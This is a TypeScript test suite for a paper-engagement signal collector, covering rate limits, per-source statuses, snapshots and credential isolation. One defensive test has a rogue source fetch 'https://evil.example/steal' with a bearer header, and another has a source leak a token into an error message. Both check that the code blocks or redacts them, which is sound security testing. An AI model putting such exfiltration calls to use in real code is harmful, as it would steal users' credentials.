import { describe, expect, it } from 'vitest';
import { CREDENTIALS_KEY, deleteCredentials, setCredentials } from '../../lib/credentials';
import { getSignals, getSnapshots, openHotDb, storePapers, storeSignals, type HotDb } from '../../lib/store/db';
import { collectSignals, MIN_RATE_LIMIT_BACKOFF_MS, type SignalsEnv } from '../../lib/worker/signals';
import { DEFAULT_SETTINGS, type KeyValueStorage, type Settings } from '../../lib/settings';
import { SOURCES } from '../../lib/sources/index';
import { hackerNews } from '../../lib/sources/hacker-news';
import { huggingFace } from '../../lib/sources/hugging-face';
import { semanticScholar } from '../../lib/sources/semantic-scholar';
import { xTwitter } from '../../lib/sources/x-twitter';
import type { EngagementSource } from '../../lib/sources/types';
import { getSourceStatuses } from '../../lib/rank/views';
import { fakeFetch, fixture, json, NOW, paper, type Handler } from './source-test-kit';

const HF = fixture('hf_daily_papers_2026-05-18.json');
const HN = fixture('hn_algolia_search_by_date_arxiv_format.json');
const BSKY_SESSION = fixture('bluesky_create_session_format.json');
const BSKY_SEARCH = fixture('bluesky_search_posts_format.json');
const X = fixture('x_v2_tweets_search_recent_public_metrics_format.json');
const S2 = fixture('s2_paper_batch.json');
/** The recorded alphaXiv feed with its first card re-keyed to 2605.13301 (derived here, in the test). */
const AX = JSON.stringify({ papers: (JSON.parse(fixture('alphaxiv_feed_v3_2025-11-04.json')) as { papers: Record<string, unknown>[] }).papers.map((c, i) => (i === 0 ? { ...c, universal_paper_id: '2605.13301' } : c)) });

const X_TOKEN = 'AAAAAAAAAAAAAAAAAAAAAsecret-x-bearer-token-0123456789';
const BSKY_PASSWORD = 'abcd-efgh-ijkl-mnop';
const S2_KEY = 's2-secret-key-0123456789';

const papers = [paper('2605.13301', '2026-05-15'), paper('2605.15141', '2026-05-15'), paper('2605.06554', '2026-05-15'), paper('2605.10912', '2026-05-15')];

let dbn = 0;
async function setup(over: Partial<Settings> = {}) {
  const db = await openHotDb(`signals-test-${dbn++}`);
  await storePapers(db, papers, []);
  const store = new Map<string, unknown>();
  const storage: KeyValueStorage = {
    get: async (k) => (store.has(k) ? { [k]: structuredClone(store.get(k)) } : {}),
    set: async (items) => void Object.entries(items).forEach(([k, v]) => store.set(k, structuredClone(v))),
  };
  const settings: Settings = { ...structuredClone(DEFAULT_SETTINGS), ...over };
  let now = NOW;
  const clock = { now: () => now, advance: (ms: number) => void (now += ms) };
  return { db, storage, settings, store, clock };
}

function envOf(s: Awaited<ReturnType<typeof setup>>, handler: Handler, sources?: EngagementSource[]): { env: SignalsEnv; calls: ReturnType<typeof fakeFetch>['calls'] } {
  const { fetch, calls } = fakeFetch(handler);
  return { env: { db: s.db, settings: s.settings, storage: s.storage, fetch, now: s.clock.now, sleep: async () => {}, sources }, calls };
}

const hfOnly = (url: string) => url.startsWith('https://huggingface.co/');
const hnOnly = (url: string) => url.startsWith('https://hn.algolia.com/');

/** The normal replies of every service. */
const normal: Handler = (url) => {
  if (hfOnly(url)) return json(url.includes('date=2026-05-15') ? HF : '[]');
  if (hnOnly(url)) return json(HN);
  if (url.startsWith('https://api.alphaxiv.org/')) return json(AX);
  if (url.includes('createSession') || url.includes('refreshSession')) return json(BSKY_SESSION);
  if (url.includes('searchPosts')) return json(new URL(url).searchParams.has('cursor') ? { posts: [] } : BSKY_SEARCH);
  if (url.startsWith('https://api.x.com/')) return json(X);
  if (url.startsWith('https://api.semanticscholar.org/')) return json(JSON.parse(S2).concat([]).slice(0, 4));
  return new Response('unexpected host', { status: 599 });
};

async function sig(db: HotDb, id: string, source: string) {
  return (await getSignals(db, [id])).get(id)?.find((r) => r.source === source);
}

describe('collectSignals', () => {
  it('fills signals and per-source statuses from recorded replies, with request counts', async () => {
    const s = await setup();
    const { env } = envOf(s, normal, [huggingFace, hackerNews]);
    const reports = await collectSignals(env, papers);
    expect(reports).toEqual([
      { source: 'hf', state: 'ok', papers: 4, requests: 2 },
      { source: 'hn', state: 'ok', papers: 4, requests: 1 },
    ]);
    expect((await sig(s.db, '2605.13301', 'hf'))!.counts).toEqual({ upvotes: 140, comments: 4, githubStars: 70 });
    expect((await sig(s.db, '2605.13301', 'hn'))!.counts).toEqual({ points: 421, comments: 190 });
    const statuses = await getSourceStatuses(s.db);
    expect(statuses.find((x) => x.source === 'hf')).toEqual({ source: 'hf', state: 'ok', lastSuccess: NOW, lastAttempt: NOW });
    expect(statuses.find((x) => x.source === 'x')).toEqual({ source: 'x', state: 'never' });
  });

  it('one source failing keeps the others\' new data and its own last good data', async () => {
    const s = await setup();
    await collectSignals(envOf(s, normal, [huggingFace, hackerNews]).env, papers);
    s.clock.advance(30 * 60_000);
    // HF now has more upvotes; HN answers with a truncated reply.
    const bumped = (JSON.parse(HF) as { paper: { id: string; upvotes: number } }[]).map((e) => (e.paper.id === '2605.13301' ? { ...e, paper: { ...e.paper, upvotes: 150 } } : e));
    const { env } = envOf(s, (url, i, n) => (hnOnly(url) ? json(HN.slice(0, 500)) : hfOnly(url) && url.includes('2026-05-15') ? json(bumped) : normal(url, i, n)), [huggingFace, hackerNews]);
    const reports = await collectSignals(env, papers);
    expect(reports.map((r) => [r.source, r.state])).toEqual([['hf', 'ok'], ['hn', 'error']]);
    expect((await sig(s.db, '2605.13301', 'hf'))!.counts.upvotes).toBe(150);
    const hn = (await sig(s.db, '2605.13301', 'hn'))!;
    expect(hn.counts).toEqual({ points: 421, comments: 190 });
    expect(hn.fetchedAt).toBe(NOW);
    const status = (await getSourceStatuses(s.db)).find((x) => x.source === 'hn')!;
    expect(status).toEqual({ source: 'hn', state: 'error', lastSuccess: NOW, lastAttempt: NOW + 30 * 60_000, lastError: 'Hacker News sent a reply we could not read' });
  });

  it('a paper missing from a later reply keeps its previous signal', async () => {
    const s = await setup();
    await collectSignals(envOf(s, normal, [huggingFace]).env, papers);
    s.clock.advance(30 * 60_000);
    await collectSignals(envOf(s, () => json('[]'), [huggingFace]).env, papers);
    expect((await sig(s.db, '2605.06554', 'hf'))!.counts.upvotes).toBe(21);
  });

  it('writes a snapshot only when counts change', async () => {
    const s = await setup();
    const count = async () => (await getSnapshots(s.db, ['2605.13301'])).get('2605.13301')!.filter((x) => x.source === 'hf').length;
    await collectSignals(envOf(s, normal, [huggingFace]).env, papers);
    expect(await count()).toBe(1);
    s.clock.advance(30 * 60_000);
    await collectSignals(envOf(s, normal, [huggingFace]).env, papers);
    expect(await count()).toBe(1);
    s.clock.advance(30 * 60_000);
    const bumped = (JSON.parse(HF) as { paper: { id: string; upvotes: number } }[]).map((e) => (e.paper.id === '2605.13301' ? { ...e, paper: { ...e.paper, upvotes: 141 } } : e));
    await collectSignals(envOf(s, () => json(bumped), [huggingFace]).env, papers);
    expect(await count()).toBe(2);
  });

  it('respects retryAt after a 429 and says "rate-limited" until then', async () => {
    const s = await setup();
    const limited: Handler = (url, i, n) => (hnOnly(url) ? json({ message: 'slow down' }, 429, { 'Retry-After': '3600' }) : normal(url, i, n));
    const first = await collectSignals(envOf(s, limited, [hackerNews]).env, papers);
    expect(first[0]).toMatchObject({ source: 'hn', state: 'rate-limited', requests: 1 });
    const status = (await getSourceStatuses(s.db)).find((x) => x.source === 'hn')!;
    expect(status.retryAt).toBe(NOW + 3_600_000);
    expect(status.lastError).toBe('Hacker News asked us to slow down; trying again later');

    s.clock.advance(40 * 60_000);
    const mid = envOf(s, normal, [hackerNews]);
    const second = await collectSignals(mid.env, papers, { force: true });
    expect(mid.calls).toHaveLength(0);
    expect(second[0]).toMatchObject({ source: 'hn', state: 'rate-limited', requests: 0 });

    s.clock.advance(21 * 60_000);
    const after = envOf(s, normal, [hackerNews]);
    const third = await collectSignals(after.env, papers);
    expect(after.calls).toHaveLength(1);
    expect(third[0]).toMatchObject({ state: 'ok' });
  });

  it('a 429 without a usable Retry-After still waits a few minutes', async () => {
    const s = await setup();
    await collectSignals(envOf(s, (url, i, n) => (hnOnly(url) ? json({}, 429) : normal(url, i, n)), [hackerNews]).env, papers);
    const status = (await getSourceStatuses(s.db)).find((x) => x.source === 'hn')!;
    expect(status.retryAt).toBeGreaterThanOrEqual(NOW + MIN_RATE_LIMIT_BACKOFF_MS);
  });

  it('does not call a source again before its minimum interval, unless forced', async () => {
    const s = await setup();
    await collectSignals(envOf(s, normal, [huggingFace]).env, papers);
    s.clock.advance(60_000);
    const again = envOf(s, normal, [huggingFace]);
    const r = await collectSignals(again.env, papers);
    expect(again.calls).toHaveLength(0);
    expect(r[0]).toEqual({ source: 'hf', state: 'ok', papers: 0, requests: 0 });
    const forced = envOf(s, normal, [huggingFace]);
    await collectSignals(forced.env, papers, { force: true });
    expect(forced.calls.length).toBeGreaterThan(0);
  });

  it('an on-demand (forced) lookup never hurries the small-quota sources (X, Semantic Scholar)', async () => {
    const s = await setup();
    s.settings.sources.x = { enabled: true, weight: 1 };
    await setCredentials(s.storage, { xBearer: X_TOKEN });
    await collectSignals(envOf(s, normal, [semanticScholar, SOURCES.find((x) => x.id === 'x')!]).env, papers);
    s.clock.advance(5 * 60_000);
    const again = envOf(s, normal, [semanticScholar, SOURCES.find((x) => x.id === 'x')!]);
    await collectSignals(again.env, [paper('2605.77777')], { force: true });
    expect(again.calls).toHaveLength(0);
  });

  it('skips disabled sources without a request, and says so', async () => {
    const s = await setup();
    s.settings.sources.hn = { enabled: false, weight: 1 };
    const { env, calls } = envOf(s, normal, [huggingFace, hackerNews]);
    const r = await collectSignals(env, papers);
    expect(r[1]).toEqual({ source: 'hn', state: 'disabled', papers: 0, requests: 0 });
    expect(calls.some((c) => hnOnly(c.url))).toBe(false);
    expect((await getSourceStatuses(s.db)).find((x) => x.source === 'hn')!.state).toBe('disabled');
  });

  it('status words for each failure, in plain language', async () => {
    const s = await setup();
    s.settings.sources.x = { enabled: true, weight: 1 };
    await setCredentials(s.storage, { xBearer: X_TOKEN });
    const failing: Handler = (url) => {
      if (hfOnly(url)) return new Response('oops', { status: 500 });
      if (url.startsWith('https://api.alphaxiv.org/')) return json(AX);
      if (url.startsWith('https://api.x.com/')) return json({ title: 'Unauthorized', type: 'about:blank', status: 401, detail: `Unauthorized ${X_TOKEN}` }, 401);
      if (url.startsWith('https://api.semanticscholar.org/')) return new Response('<html>Forbidden</html>', { status: 403 });
      return json(HN);
    };
    const r = await collectSignals(envOf(s, failing).env, papers);
    const by = Object.fromEntries(r.map((x) => [x.source, x]));
    expect(by.hf).toMatchObject({ state: 'error', error: 'Hugging Face answered with an error (HTTP 500)' });
    expect(by.hn).toMatchObject({ state: 'ok' });
    // No account: the category bots' feeds, here answered with something else.
    expect(by.bluesky).toMatchObject({ state: 'error', error: 'Bluesky sent an unexpected reply (no feed of posts)' });
    expect(by.x).toMatchObject({ state: 'auth-needed', error: 'X (Twitter) refused our sign-in (HTTP 401); check the credentials in the options' });
    expect(by.s2).toMatchObject({ state: 'error', error: 'Semantic Scholar refused the request (HTTP 403)' });
    const statuses = await getSourceStatuses(s.db);
    expect(statuses.map((x) => x.state)).toEqual(['error', 'ok', 'ok', 'error', 'auth-needed', 'error']);
  });

  it('a new sign-in or a changed token takes effect at the next run, despite the rest after a failed try (issue 16)', async () => {
    const s = await setup();
    s.settings.sources.x = { enabled: true, weight: 1 };
    // At install: no X token, so X fails "sign-in needed" and would rest for its hour.
    const first = envOf(s, normal, [xTwitter]);
    expect((await collectSignals(first.env, papers))[0]).toMatchObject({ source: 'x', state: 'auth-needed' });
    // Five minutes later, without a token: still resting, nothing sent.
    s.clock.advance(5 * 60_000);
    const resting = envOf(s, normal, [xTwitter]);
    expect((await collectSignals(resting.env, papers))[0]).toMatchObject({ state: 'auth-needed', requests: 0 });
    expect(resting.calls).toHaveLength(0);
    // The user enters a token and presses Refresh: X runs now.
    await setCredentials(s.storage, { xBearer: X_TOKEN });
    const signedIn = envOf(s, normal, [xTwitter]);
    expect((await collectSignals(signedIn.env, papers))[0]).toMatchObject({ state: 'ok' });
    expect(signedIn.calls.length).toBeGreaterThan(0);
    // The same token a minute later: the ordinary rest holds again.
    s.clock.advance(60_000);
    const again = envOf(s, normal, [xTwitter]);
    await collectSignals(again.env, papers);
    expect(again.calls).toHaveLength(0);
    // A changed token (and a 429 wait of the old one) does not hold the new one back either.
    const status = (await getSourceStatuses(s.db)).find((x) => x.source === 'x')!;
    expect(status.account).toMatch(/^[0-9a-f]{8}$/);
    expect(JSON.stringify(status)).not.toContain(X_TOKEN);
    await setCredentials(s.storage, { xBearer: `${X_TOKEN}-new` });
    const changed = envOf(s, normal, [xTwitter]);
    await collectSignals(changed.env, papers);
    expect(changed.calls.length).toBeGreaterThan(0);
  });

  it('credentials never appear in statuses, reports or errors', async () => {
    const s = await setup();
    s.settings.sources.x = { enabled: true, weight: 1 };
    await setCredentials(s.storage, { xBearer: X_TOKEN, bluesky: { handle: 'reader.example.com', appPassword: BSKY_PASSWORD }, s2Key: S2_KEY });
    // A buggy source that puts a secret into its error message.
    const leaky: EngagementSource = {
      id: 'x', label: 'X (Twitter)', hosts: ['api.x.com'], credentials: 'token', minIntervalMs: 0, maxRequests: 1,
      fetchSignals: async (_p, env) => {
        throw new Error(`request failed with token ${env.credentials.xBearer}`);
      },
    };
    const handler: Handler = () => json({ error: `echo ${X_TOKEN} ${BSKY_PASSWORD} ${S2_KEY}` }, 401);
    const r = await collectSignals(envOf(s, handler, [...SOURCES.filter((x) => x.id !== 'x'), leaky]).env, papers);
    const text = JSON.stringify([r, await getSourceStatuses(s.db)]);
    for (const secret of [X_TOKEN, BSKY_PASSWORD, S2_KEY]) expect(text).not.toContain(secret);
    expect(r.find((x) => x.source === 'x')!.state).toBe('error');
  });

  it('sends each credential only to its own host', async () => {
    const s = await setup();
    s.settings.sources.x = { enabled: true, weight: 1 };
    await setCredentials(s.storage, { xBearer: X_TOKEN, bluesky: { handle: 'reader.example.com', appPassword: BSKY_PASSWORD }, s2Key: S2_KEY });
    const { env, calls } = envOf(s, normal);
    const r = await collectSignals(env, papers);
    expect(r.map((x) => x.state)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok', 'ok']);
    const hostOf = (u: string) => new URL(u).host;
    for (const c of calls) {
      const blob = JSON.stringify(c);
      if (blob.includes(X_TOKEN)) expect(hostOf(c.url)).toBe('api.x.com');
      if (blob.includes(BSKY_PASSWORD)) expect(c.url).toBe('https://bsky.social/xrpc/com.atproto.server.createSession');
      if (blob.includes(S2_KEY)) expect(hostOf(c.url)).toBe('api.semanticscholar.org');
      if (c.headers.Authorization) expect(['api.x.com', 'bsky.social', 'api.bsky.app']).toContain(hostOf(c.url));
    }
    expect(calls.filter((c) => JSON.stringify(c).includes(X_TOKEN)).length).toBeGreaterThan(0);
    expect(calls.filter((c) => c.headers['x-api-key'] === S2_KEY).length).toBe(1);
    // The credentials stay under their own storage key, outside the settings.
    expect(JSON.stringify(s.settings)).not.toContain(X_TOKEN);
    expect(Object.keys((await s.storage.get(CREDENTIALS_KEY))[CREDENTIALS_KEY] as object).sort()).toEqual(['bluesky', 's2Key', 'xBearer']);
  });

  it('a source cannot reach a host outside its own list, nor see other sources\' secrets', async () => {
    const s = await setup();
    await setCredentials(s.storage, { xBearer: X_TOKEN });
    let seen: unknown;
    const rogue: EngagementSource = {
      id: 'hn', label: 'Hacker News', hosts: ['hn.algolia.com'], credentials: 'none', minIntervalMs: 0, maxRequests: 1,
      fetchSignals: async (_p, env) => {
        seen = env.credentials;
        await env.fetch('https://evil.example/steal', { headers: { Authorization: 'Bearer x' } });
        return { signals: [], requests: 1 };
      },
    };
    const { env, calls } = envOf(s, normal, [rogue]);
    const r = await collectSignals(env, papers);
    expect(calls).toHaveLength(0);
    expect(seen).toEqual({});
    expect(r[0]!.state).toBe('error');
  });

  it('Semantic Scholar covers the week: watchlist first, then papers discussed elsewhere, then newest', async () => {
    const s = await setup();
    const week = [paper('2605.00010', '2026-05-08'), paper('2605.00011', '2026-05-11'), paper('2605.00012', '2026-05-12'), paper('2605.00013', '2026-05-14')];
    await storePapers(s.db, week, week.map((p) => ({ day: p.announced!, category: 'cs.LG', id: p.id, announceType: 'new' as const })));
    await storePapers(s.db, [papers[0]!], [{ day: '2026-05-15', category: 'cs.LG', id: papers[0]!.id, announceType: 'new' }]);
    await storePapers(s.db, [paper('2401.00001', '2024-01-10')], []);
    await storeSignals(s.db, [{ paperId: '2605.00011', source: 'hn', counts: { points: 3, comments: 0 }, links: [], fetchedAt: NOW }]);
    s.settings.watchlist.papers = ['2401.00001'];
    const { env, calls } = envOf(s, (_url, init) => json(JSON.parse(init!.body as string).ids.map(() => null)), [semanticScholar]);
    // The poll passes the latest day's papers and the watchlist.
    await collectSignals(env, [papers[0]!, paper('2401.00001', '2024-01-10')]);
    const asked = JSON.parse(calls[0]!.body!).ids as string[];
    // 2605.00010 (announced 05-08) is outside the 7 days up to 05-15.
    expect(asked).toEqual(['ARXIV:2401.00001', 'ARXIV:2605.00011', 'ARXIV:2605.13301', 'ARXIV:2605.00013', 'ARXIV:2605.00012']);
  });

  it('X asks by id only about watchlist papers and top-list papers whose X counts are stale', async () => {
    const s = await setup({ sources: { ...DEFAULT_SETTINGS.sources, x: { ...DEFAULT_SETTINGS.sources.x, enabled: true } } });
    await setCredentials(s.storage, { xBearer: X_TOKEN });
    const day = Array.from({ length: 60 }, (_, i) => paper(`2605.${String(20000 + i)}`, '2026-05-15'));
    await storePapers(s.db, day, []);
    await storeSignals(s.db, [
      { paperId: '2605.20050', source: 'hn', counts: { points: 300, comments: 120 }, links: [], fetchedAt: NOW },
      { paperId: '2605.20040', source: 'hf', counts: { upvotes: 5, comments: 0 }, links: [], fetchedAt: NOW },
      // On the top list, but X counted it an hour ago: discovery keeps it fresh, no per-id query.
      { paperId: '2605.20059', source: 'x', counts: { retweets: 900, likes: 5000, posts: 30 }, links: [], fetchedAt: NOW - 3_600_000 },
      // On the top list with X counts from yesterday: asked about.
      { paperId: '2605.20030', source: 'x', counts: { retweets: 1, likes: 9, posts: 1 }, links: [], fetchedAt: NOW - 24 * 3_600_000 },
    ]);
    s.settings.watchlist.papers = ['2605.20055'];
    const { env, calls } = envOf(s, () => json({ meta: { result_count: 0 } }), [xTwitter]);
    await collectSignals(env, day);
    expect(calls).toHaveLength(2);
    expect(new URL(calls[0]!.url).searchParams.get('query')).toBe('url:arxiv.org -is:retweet');
    expect(new URL(calls[0]!.url).searchParams.get('start_time')).toBe('2026-05-15T00:00:00Z');
    const asked = [...new URL(calls[1]!.url).searchParams.get('query')!.matchAll(/abs\/([\d.]+)/g)].map((m) => m[1]);
    // Watchlist first, then the stale top list by heat; papers nobody talks about are not asked about.
    expect(asked).toEqual(['2605.20055', '2605.20050', '2605.20040', '2605.20030']);
  });

  it('X discovery credits cached papers outside the batch and fetches uncached ones through the arXiv API', async () => {
    const s = await setup({ sources: { ...DEFAULT_SETTINGS.sources, x: { ...DEFAULT_SETTINGS.sources.x, enabled: true } } });
    await setCredentials(s.storage, { xBearer: X_TOKEN });
    // 2008.11469 is cached (yesterday's paper, not in the batch); 2008.11687 and 2008.11713 are not cached:
    // the API answers with the recorded id_list reply, which holds neither, so they are not stored.
    await storePapers(s.db, [paper('2008.11469', '2026-05-14')], []);
    const api = fixture('arxiv_api_idlist_2026-04.xml');
    const { env, calls } = envOf(s, (url) => (url.startsWith('https://export.arxiv.org/') ? new Response(api, { status: 200 }) : json(X)), [xTwitter]);
    const [report] = await collectSignals(env, papers);
    expect((await sig(s.db, '2008.11469', 'x'))!.counts).toEqual({ retweets: 45, likes: 153, posts: 1 });
    expect(await sig(s.db, '2008.11687', 'x')).toBeUndefined();
    const apiCalls = calls.filter((c) => c.url.startsWith('https://export.arxiv.org/api/query'));
    expect(apiCalls).toHaveLength(1);
    expect(new URL(apiCalls[0]!.url).searchParams.get('id_list')).toBe('2008.11687,2008.11713');
    expect(report).toMatchObject({ source: 'x', state: 'ok', papers: 1, requests: 1 });
    const status = (await getSourceStatuses(s.db)).find((x) => x.source === 'x')!;
    expect(status.usage).toEqual({ day: '2026-05-18', posts: 3, requests: 1, budget: 200 });
  });

  it('X: a paper fetched from the arXiv API after discovery gets its counts and top post', async () => {
    const s = await setup({ sources: { ...DEFAULT_SETTINGS.sources, x: { ...DEFAULT_SETTINGS.sources.x, enabled: true } } });
    await setCredentials(s.storage, { xBearer: X_TOKEN });
    const api = fixture('arxiv_api_idlist_2026-04.xml');
    // The recorded API reply holds 1707.08567; a post links its pdf.
    const post = JSON.parse(X) as { data: { entities: { urls: { expanded_url: string }[] } }[] };
    post.data[0]!.entities.urls[0]!.expanded_url = 'https://arxiv.org/pdf/1707.08567v1';
    const { env } = envOf(s, (url) => (url.startsWith('https://export.arxiv.org/') ? new Response(api, { status: 200 }) : json(post)), [xTwitter]);
    await collectSignals(env, papers);
    const x = (await sig(s.db, '1707.08567', 'x'))!;
    expect(x.counts).toEqual({ retweets: 45, likes: 153, posts: 1 });
    expect(x.posts![0]!.id).toBe('1298784433458352128');
  });

  it('counts from a search window never go down when a post scrolls out of it', async () => {
    const s = await setup();
    await collectSignals(envOf(s, normal, [hackerNews]).env, papers);
    s.clock.advance(30 * 60_000);
    // The big thread for 2605.13301 is no longer in the window; only the 9-point pdf thread is.
    const reply = JSON.parse(HN) as { hits: { objectID: string; points: number }[] };
    const later = { ...reply, hits: reply.hits.filter((h) => h.objectID !== '44012345').map((h) => (h.objectID === '44015001' ? { ...h, points: 12 } : h)) };
    await collectSignals(envOf(s, () => json(later), [hackerNews]).env, papers);
    const hn = (await sig(s.db, '2605.13301', 'hn'))!;
    expect(hn.counts).toEqual({ points: 421, comments: 190 });
    expect(hn.fetchedAt).toBe(NOW + 30 * 60_000);
  });

  it('keeps the Bluesky session in storage.local (not the cache) and forgets it with the app password', async () => {
    const s = await setup();
    await setCredentials(s.storage, { bluesky: { handle: 'reader.example.com', appPassword: BSKY_PASSWORD } });
    await collectSignals(envOf(s, normal, [SOURCES.find((x) => x.id === 'bluesky')!]).env, papers);
    const session = JSON.parse(BSKY_SESSION) as { accessJwt: string };
    expect(JSON.stringify(s.store.get('source-state:bluesky'))).toContain(session.accessJwt);
    const meta = await s.db.getAll('meta');
    expect(JSON.stringify(meta)).not.toContain(session.accessJwt);
    await deleteCredentials(s.storage, 'bluesky');
    expect(s.store.get('source-state:bluesky')).toEqual({});
  });
});
